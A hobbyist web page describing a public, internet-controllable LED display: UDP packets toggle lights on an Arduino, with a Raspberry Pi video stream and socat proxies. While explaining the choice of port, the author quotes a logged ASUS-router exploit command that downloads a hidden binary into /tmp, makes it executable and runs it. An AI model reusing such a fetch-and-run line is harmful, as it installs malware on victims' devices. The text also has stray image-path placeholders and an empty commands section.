Yes, this is a live video feed (around 60KB/sec).
If you don't see an updating time in the stream, try reloading the page.

LED Lights that you can control from the command line

While everyone jokes about turning off someone else's lights over the Internet, you can actually do it. Welcome to, where you and perhaps hundreds of others can use their command line skills to control these lights in interesting ways. You can also control the lights using the number keys on your keyboard on this webpage or by touching/clicking the lights, but that's boring and slow. A programming interface offers you a level of control that your hands can't match and the command line makes it quick and easy to write a complex program.
The 9 LED lights (numbered 1 to 9 from left to right) shown in the live video stream are sitting on a shelf in my house and are controlled by sending a UDP packet with a number to on port 45444. Sending a number will flip the state of the LED between on and off. There is only one set of lights and anyone can change the state of a light at any moment so your results may be unpredictable if others are also controlling the lights at the same time. It helps to shrink your browser window a bit and bring up a small terminal next to it. Have fun!

Example commands

Here are some examples you can run yourself. Please do not send packets more frequently than 5 per second. (sleep 0.2). If there are too many others changing the lights, you might want to watch this video which demonstrates what each of the below commands will do.

Challenges for the reader

You can post your solutions to these challenges below in the comments section.

How this works

I utilized manytechnologies to make this work. The lights are controlled using an Arduino Uno hooked up to two 74HC595 shift registers, which allows 3 wires to control up to 16 I/O pins. The Arduino is connected to the Internet using a SeeedStudio Ethernet Shield.. I wrote some arduino code to handle the UDP input and process the data on the shift register to display the values. The USB camera is running off a Raspberry Pi B and captures the mjpeg based video using the software called motion capturing at 5 frames per second and a jpeg quality level of 30. This format was choosen to allow for real time streaming with minimum amount of delay and bandwidth utilization. All the streaming services I tried like Youtube and Twitch had a minimum of 15 seconds of delay,which wouldn't be fun for you.
The LED light setup on a shelf in my house
Due to the fact that ISPs suck in the United States and my home upstream bandwidth is minimal and because I did not want to reveal my home IP to thousands of people while doing this, I setup a couple of proxies out in the {cloud}(TM). One for the video stream which uses a program called mjpeg-relay, which splits the current frame of the mjpeg to new viewers (Big thanks to the developer Oliver Foyle for helping me out). The other proxy is the socat program, which relays the UDP packets that you send. Like this:
socat -d -d UDP4-RECVFROM:45444,fork UDP4-SENDTO:my.home.address:45444 > socat.log 2>&1
Because I needed to protect this setup from potential abuse, I upgraded to the latest 2.0 version of socat, which allows you to create a packet pipeline for the output. This allowed me to implement a simple filter and logging system without having to write my own UDP forwarding server.
socat UDP4-RECVFROM:45444,fork "EXEC:filterprogram | UDP4-SENDTO:my.home.address:45444"

Why port 45444?

Finding an unused port is challenging these days. There are many ports long unused but still assigned to ancient protocols or applications. Originally, I was using udp port 9999 but one day found this entry in my log:
^L^U3fE^CM-^Jfsh -c "cd /tmp ; rm -f .nttpd ; wget -O .nttpd ; chmod +x .nttpd ; ./.nttpd
At first I thought someone was already trying to attack this system but I hadn't released it yet and only a few people knew about it. Upon searching for some of the data above I found that it was the recently made ASUS router exploit that was running around the Internet hitting port 9999 on random or sequencial IPs and I just happened to be listening. So I found a more appropriate port. You can run ascii -x and find out why I choose 45444. LED in little endian with the lead nibble cut off.

Saving theInternets since 2015

By not auto playing the video on page load (you're welcome) and implemeting a video timeout and refreshfunctionality, I have currently saved 2 terabytes and only had to serve 17 gigabytes of video. That's a 99% savingsin bandwidth. See, this is a good thing.